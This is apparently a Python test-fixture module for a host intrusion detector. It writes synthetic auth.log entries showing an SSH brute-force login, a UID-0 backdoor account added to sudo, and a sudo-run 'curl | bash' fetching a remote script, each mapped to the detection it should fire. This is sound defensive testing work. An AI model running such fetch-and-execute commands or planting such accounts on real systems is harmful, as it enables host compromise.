"""Authentication-log artifacts of the THREAT-MAP (Initial access: SSH row): what an SSH password
guesser that got in leaves in /var/log/auth.log. Plain text in the format rsyslog writes; the
addresses are from the documentation ranges (RFC 5737), the accounts are made up."""

from __future__ import annotations

from pathlib import Path

from tests.harness.hostroot import AUTH_LOG, Plant, write

ATTACKER = "203.0.113.77"


def _guessing_lines(count: int, success: str | None) -> str:
    lines = []
    users = ("root", "admin", "oracle", "postgres", "ubuntu")
    for i in range(count):
        second = i * 3
        stamp = f"Nov 27 09:{second // 60:02d}:{second % 60:02d}"
        user = users[i % len(users)]
        if user in ("oracle", "postgres", "ubuntu"):
            lines.append(f"{stamp} web1 sshd[{3000 + i}]: Invalid user {user} from {ATTACKER} port {51000 + i}")
            lines.append(f"{stamp} web1 sshd[{3000 + i}]: Failed password for invalid user {user} from {ATTACKER} "
                         f"port {51000 + i} ssh2")
        else:
            lines.append(f"{stamp} web1 sshd[{3000 + i}]: Failed password for {user} from {ATTACKER} "
                         f"port {51000 + i} ssh2")
    if success:
        lines.append(f"Nov 27 09:05:00 web1 sshd[3999]: Accepted {success} for admin from {ATTACKER} port 52000 ssh2")
        lines.append("Nov 27 09:05:00 web1 sshd[3999]: pam_unix(sshd:session): session opened for user admin(uid=1000) "
                     "by (uid=0)")
    return "\n".join(lines) + "\n"


def _password_guessed(root: Path) -> None:
    write(root, "/var/log/auth.log", AUTH_LOG + _guessing_lines(60, "password"), 0o640)


def _backdoor_account(root: Path) -> None:
    write(root, "/var/log/auth.log", AUTH_LOG
          + "Nov 27 09:10:00 web1 useradd[4100]: new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, "
            "from=/dev/pts/1\n"
          + "Nov 27 09:10:01 web1 usermod[4101]: add 'sysd' to group 'sudo'\n"
          + "Nov 27 09:10:02 web1 sudo:    admin : TTY=pts/1 ; PWD=/tmp ; USER=root ; "
            "COMMAND=/bin/sh -c curl -fsSL http://example.invalid/init.sh | bash\n", 0o640)


PLANTS = [
    Plant("auth-log-password-guessed", _password_guessed,
          ("host.logs.ssh_password_guessed", "host.logs.ssh_brute_force"),
          "auth.log: 60 failed SSH logins from one address, then an accepted password login from it"),
    Plant("auth-log-backdoor-account", _backdoor_account,
          ("host.logs.uid0_account_created", "host.logs.privileged_group_membership",
           "host.logs.sudo_suspicious_command"),
          "auth.log: a uid-0 account created, added to sudo, and a curl | bash run through sudo"),
]
